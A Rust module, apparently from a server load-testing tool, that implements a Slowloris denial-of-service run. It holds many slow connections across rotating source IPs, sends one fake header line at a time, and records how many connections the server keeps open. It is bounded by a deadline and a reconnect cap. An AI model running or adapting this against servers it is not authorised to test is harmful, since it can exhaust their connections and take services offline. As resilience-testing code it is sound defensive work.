//! Slowloris: connections that send a request head one header line at a
//! time, slowly, to tie up server connections. Bounded by the deadline and
//! by a cap on reconnects per connection slot.

use std::net::IpAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use crate::report::SlowlorisReport;
use crate::target::Target;

/// Reconnects per connection slot after the server closes one.
const MAX_ATTEMPTS: u32 = 50;

#[derive(Debug, Default)]
pub struct SlowStats {
    pub opened: AtomicU64,
    pub connect_failed: AtomicU64,
    pub closed_by_server: AtomicU64,
    pub held: AtomicU64,
    pub max_held: AtomicU64,
    pub held_at_end: AtomicU64,
    pub header_lines: AtomicU64,
}

impl SlowStats {
    pub fn report(&self, connections: usize) -> SlowlorisReport {
        let g = |a: &AtomicU64| a.load(Ordering::Relaxed);
        SlowlorisReport {
            connections: connections as u64,
            opened: g(&self.opened),
            connect_failed: g(&self.connect_failed),
            closed_by_server: g(&self.closed_by_server),
            max_held: g(&self.max_held),
            held_at_end: g(&self.held_at_end),
            header_lines_sent: g(&self.header_lines),
        }
    }

    fn hold(&self) {
        let now = self.held.fetch_add(1, Ordering::AcqRel) + 1;
        self.max_held.fetch_max(now, Ordering::AcqRel);
    }
}

pub async fn run(
    target: Arc<Target>,
    sources: Vec<IpAddr>,
    connections: usize,
    interval: Duration,
    deadline: Instant,
    stats: Arc<SlowStats>,
) {
    let mut set = JoinSet::new();
    for i in 0..connections {
        let source = sources[i % sources.len()];
        let (target, stats) = (target.clone(), stats.clone());
        set.spawn(async move {
            for attempt in 0..MAX_ATTEMPTS {
                if Instant::now() >= deadline {
                    return;
                }
                if attempt > 0 {
                    // Do not spin on a server that refuses us.
                    tokio::time::sleep(
                        interval.min(deadline.saturating_duration_since(Instant::now())),
                    )
                    .await;
                }
                one_connection(&target, source, i, interval, deadline, &stats).await;
            }
        });
    }
    // Sample how many are still held just before the deadline, then stop.
    let sample_at = deadline
        .checked_sub(Duration::from_millis(50))
        .unwrap_or(deadline);
    tokio::time::sleep_until(sample_at.into()).await;
    stats
        .held_at_end
        .store(stats.held.load(Ordering::Acquire), Ordering::Relaxed);
    let drain = async { while set.join_next().await.is_some() {} };
    if tokio::time::timeout(interval + Duration::from_secs(2), drain)
        .await
        .is_err()
    {
        set.abort_all();
    }
}

async fn one_connection(
    target: &Target,
    source: IpAddr,
    n: usize,
    interval: Duration,
    deadline: Instant,
    stats: &SlowStats,
) {
    let remaining = deadline.saturating_duration_since(Instant::now());
    let conn = match tokio::time::timeout(remaining, target.connect(Some(source))).await {
        Ok(Ok(c)) => c,
        _ => {
            stats.connect_failed.fetch_add(1, Ordering::Relaxed);
            return;
        }
    };
    stats.opened.fetch_add(1, Ordering::Relaxed);
    stats.hold();
    let (mut reader, mut writer) = tokio::io::split(conn);
    let head = format!(
        "GET /?slowloris={n} HTTP/1.1\r\nHost: {}\r\nUser-Agent: rampart-loadtest-slowloris\r\n",
        target.host
    );
    let mut closed = writer.write_all(head.as_bytes()).await.is_err();
    let mut line = 0u64;
    let mut buf = [0u8; 512];
    while !closed && Instant::now() < deadline {
        let wait = interval.min(deadline.saturating_duration_since(Instant::now()));
        tokio::select! {
            _ = tokio::time::sleep(wait) => {
                if Instant::now() >= deadline { break; }
                line += 1;
                closed = writer.write_all(format!("X-Slow-{line}: {line}\r\n").as_bytes()).await.is_err();
                if !closed {
                    stats.header_lines.fetch_add(1, Ordering::Relaxed);
                }
            }
            // Any answer (408, 400) or EOF/reset means the server gave up on us.
            _ = reader.read(&mut buf) => closed = true,
        }
    }
    if closed {
        stats.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
    stats.held.fetch_sub(1, Ordering::AcqRel);
}
